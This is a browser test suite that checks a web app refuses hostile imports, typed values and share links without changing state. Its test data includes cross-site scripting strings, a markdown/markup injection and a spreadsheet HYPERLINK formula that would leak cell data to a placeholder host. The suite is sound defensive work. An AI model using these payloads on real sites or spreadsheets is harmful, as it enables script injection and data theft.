// Hostile input in the browser: each case must give a clear message, raise no page error, run
// no script, and leave the user's previous state as it was. (Corrupt and full storage, damaged
// and oversized links, and markup in candidate names have their own tests in workspace and
// candidates; scope-core's own hostile-input properties run natively: `cargo xtask fuzz`.)
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { deflateRawSync } from 'node:zlib';
import { join } from 'node:path';
import { APP_URL, cspViolations, launch, shareLink, watchedPage } from './browser.mjs';

const CASES = process.env.CASES_DIR || 'tests/cases';
const example = () => JSON.parse(readFileSync(join(CASES, 'mature-spot-cex.json'), 'utf8'));
const file = (name, text, mimeType = 'application/json') => ({ name, mimeType, buffer: Buffer.from(text) });
const CSV_HEADER = 'name,seniority,experience,references,track_record,availability,cost,speed,interest\n';

/** The app with the mature spot example loaded, and what must survive every attempt. */
async function opened(browser) {
  const watched = await watchedPage(browser);
  const { page } = watched;
  page.on('dialog', (d) => {
    watched.problems.push(`a dialog opened: ${d.message()}`);
    d.dismiss();
  });
  await page.goto(APP_URL);
  await page.getByLabel('Load').selectOption('Mature spot CEX');
  return watched;
}

async function state(page) {
  await page.getByRole('tab', { name: 'Maturity' }).click();
  const score = await page.getByTestId('score').textContent();
  await page.getByRole('tab', { name: 'Candidates' }).click();
  const ranking = await page.locator('.ranking .candidate .name').allTextContents();
  await page.getByRole('tab', { name: 'Cases' }).click();
  const cards = await page.locator('.card').count();
  const exchange = await page.getByLabel('Exchange', { exact: true }).inputValue();
  return { score, ranking, cards, exchange };
}

async function importing(page, files) {
  await page.getByRole('tab', { name: 'Cases' }).click();
  const dismiss = page.getByTestId('notice').getByRole('button', { name: 'Dismiss' });
  if (await dismiss.count()) {
    await dismiss.click();
    await page.getByTestId('notice').waitFor({ state: 'detached' });
  }
  await page.locator('#cs-import').setInputFiles(files);
  await page.getByTestId('notice').waitFor();
  return page.getByTestId('notice').textContent();
}

describe('hostile input', () => {
  let browser;
  before(async () => {
    browser = await launch();
  });
  after(async () => {
    await browser?.close();
  });

  test('bad files are refused with a reason and change nothing', async () => {
    const { context, page, problems } = await opened(browser);
    const before = await state(page);
    const wrongVersion = { ...example(), version: 99 };
    const nonReciprocal = {
      ...example(),
      weights: {
        ahp: {
          order: ['seniority', 'experience', 'references', 'track_record', 'availability', 'cost', 'speed', 'interest'],
          matrix: Array.from({ length: 8 }, (_, i) => Array.from({ length: 8 }, (_, j) => (i === j ? 1 : 3))),
        },
      },
    };
    const tenThousand = {
      ...example(),
      candidates: Array.from({ length: 10_000 }, (_, i) => ({ ...example().candidates[0], name: `c${i}` })),
    };
    const huge = { ...example(), estimate: { ...example().estimate, availability_hours_per_week: 1e308 } };
    const negative = { ...example(), estimate: { ...example().estimate, hourly_rate: '-75' } };
    const nan = { ...example(), estimate: { ...example().estimate, availability_hours_per_week: 'NaN' } };
    for (const [files, expected] of [
      [file('broken.json', '{"version": 1, "exchange": {'), /not valid JSON \(line 1, column \d+\)/],
      [file('future.json', JSON.stringify(wrongVersion)), /newer Connector Scope/],
      [file('big.json', ' '.repeat(10 * 1024 * 1024)), /10\.5 MB; files up to 5 MB are read/],
      [file('ahp.json', JSON.stringify(nonReciprocal)), /reciprocal/],
      [file('many.json', JSON.stringify(tenThousand)), /candidates.*at most 1000/],
      [file('huge.json', JSON.stringify(huge)), /availability_hours_per_week/],
      [file('negative.json', JSON.stringify(negative)), /hourly_rate/],
      [file('nan.json', JSON.stringify(nan)), /availability_hours_per_week/],
      [file('nothing.json', ''), /not valid JSON/],
      [file('list.csv', CSV_HEADER + 'Ada,1,2,3,4,5,6,7,8\n'.repeat(10_000), 'text/csv'), /at most 1000/],
      [file('nan.csv', CSV_HEADER + 'Ada,NaN,2,3,4,Infinity,6,7,8\n', 'text/csv'), /line 2/],
    ]) {
      const notice = await importing(page, files);
      assert.match(notice, expected, files.name);
      assert.match(notice, /Nothing was changed/, files.name);
    }
    assert.deepEqual(await state(page), before);
    assert.deepEqual(await cspViolations(page), []);
    assert.deepEqual(problems, []);
    await context.close();
  });

  test('bad numbers typed name the field and keep the last figures', async () => {
    const { context, page, problems } = await opened(browser);
    await page.getByRole('tab', { name: 'Estimate' }).click();
    const cost = await page.getByTestId('cost').locator('td').first().textContent();
    for (const [label, value] of [
      ['Hourly rate', '-75'],
      ['Hourly rate', '1e400'],
      ['Hourly rate', 'NaN'],
      ['Availability (hours a week)', 'Infinity'],
      ['Availability (hours a week)', '-1'],
      ['Availability (hours a week)', '1e308'],
      ['Monte Carlo samples', '99999999999999999999'],
      ['Monte Carlo samples', '-10'],
    ]) {
      await page.getByLabel(label).fill(value);
      const field = page.getByLabel(label);
      await page.waitForFunction((el) => el.getAttribute('aria-invalid') === 'true', await field.elementHandle());
      assert.equal(await page.getByTestId('cost').locator('td').first().textContent(), cost, `${label} = ${value}`);
      assert.ok((await page.getByRole('alert').count()) > 0, `${label} = ${value}: a message`);
      await page.getByLabel(label).fill(label === 'Hourly rate' ? '75' : label === 'Monte Carlo samples' ? '10000' : '30');
    }
    assert.equal(await page.getByTestId('cost').locator('td').first().textContent(), cost);
    assert.deepEqual(problems, []);
    await context.close();
  });

  test('every weight at zero is refused; one criterion at zero just counts for nothing', async () => {
    const { context, page, problems } = await opened(browser);
    await page.getByRole('tab', { name: 'Candidates' }).click();
    const ranking = await page.locator('.ranking .candidate .name').allTextContents();
    const weights = page.getByRole('textbox', { name: /^Weight of / });
    const n = await weights.count();
    assert.ok(n >= 8);
    // All but the last at zero: still a ranking, by the one criterion left.
    for (let i = 0; i < n - 1; i++) await weights.nth(i).fill('0');
    assert.equal(await page.getByText(/the weights are all zero/).count(), 0);
    const byOne = await page.locator('.ranking .candidate .name').allTextContents();
    assert.equal(byOne.length, ranking.length);
    await weights.nth(n - 1).fill('0');
    await page.getByText(/the weights are all zero/).first().waitFor();
    assert.deepEqual(await page.locator('.ranking .candidate .name').allTextContents(), byOne);
    assert.deepEqual(problems, []);
    await context.close();
  });

  test('markup and script in every free-text field stay text and run nothing', async () => {
    const { context, page, problems } = await opened(browser);
    const payload = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>';
    await page.getByRole('tab', { name: 'Cases' }).click();
    await page.getByLabel('Exchange', { exact: true }).fill(payload);
    await page.getByRole('tab', { name: 'Candidates' }).click();
    await page.getByLabel('Name of candidate 1').fill(payload);
    await page.getByLabel('Name of criterion 1').fill(payload);
    await page.getByRole('tab', { name: 'Proposal' }).click();
    await page.getByRole('tabpanel').getByText(payload).first().waitFor();
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
    assert.equal(await page.locator('[role=tabpanel] img, [role=tabpanel] script').count(), 0);
    assert.deepEqual(await cspViolations(page), []);
    assert.deepEqual(problems, []);
    await context.close();
  });

  test('a truncated share link says so and changes nothing', async () => {
    const { context, page, problems } = await opened(browser);
    await page.getByRole('tab', { name: 'Cases' }).click();
    const link = await shareLink(page);
    const cut = link.slice(0, Math.floor(link.length * 0.6));
    const fresh = await context.newPage();
    await fresh.goto(cut);
    await fresh.getByTestId('notice').waitFor();
    assert.match(await fresh.getByTestId('notice').textContent(), /Nothing was changed/);
    assert.deepEqual(problems, []);
    await context.close();
  });

  test('a share link whose token symbol carries lines and markup is refused, naming the field', async () => {
    const { context, page, problems } = await opened(browser);
    const c = example();
    c.agreement.incentives.exchange_token_symbol = 'KST\n# Injected heading\n| a | b |\n<img src=x onerror=alert(1)>';
    const data = deflateRawSync(Buffer.from(JSON.stringify(c))).toString('base64url');
    const fresh = await context.newPage();
    await fresh.goto(`${APP_URL}#connector-scope-case=${data}`);
    await fresh.getByTestId('notice').waitFor();
    assert.match(await fresh.getByTestId('notice').textContent(), /agreement\.incentives\.exchange_token_symbol: must be one line.*Nothing was changed/);
    await fresh.getByRole('tab', { name: 'Proposal' }).click();
    assert.equal(await fresh.getByRole('heading', { name: 'Injected heading' }).count(), 0);
    assert.deepEqual(problems, []);
    await context.close();
  });

  test('markup and formulas in every text field reach the proposal and the CSV as text', async () => {
    const { context, page, problems } = await opened(browser);
    const c = example();
    c.exchange.name = '<b>Bold</b> [x](javascript:alert(1))';
    c.candidates[0].name = '=HYPERLINK("http://x/?"&B2,"Click")';
    c.agreement.incentives.exchange_token_symbol = '<i>KST</i>';
    await importing(page, file('hostile.json', JSON.stringify(c)));
    await page.getByRole('tab', { name: 'Proposal' }).click();
    const doc = page.locator('.document');
    assert.match(await doc.textContent(), /<b>Bold<\/b> \[x\]\(javascript:alert\(1\)\)/);
    assert.match(await doc.textContent(), /<i>KST<\/i>/);
    assert.equal(await doc.locator('b, i, a, img').count(), 0);
    await page.getByRole('tab', { name: 'Cases' }).click();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: /candidates \(CSV\)/ }).click()]);
    const csv = readFileSync(await download.path(), 'utf8');
    assert.ok(csv.split('\n').slice(1).every((line) => !/^"?[=+\-@\t\r]/.test(line)), csv);
    assert.match(csv, /^"'=HYPERLINK/m);
    assert.deepEqual(problems, []);
    await context.close();
  });
});
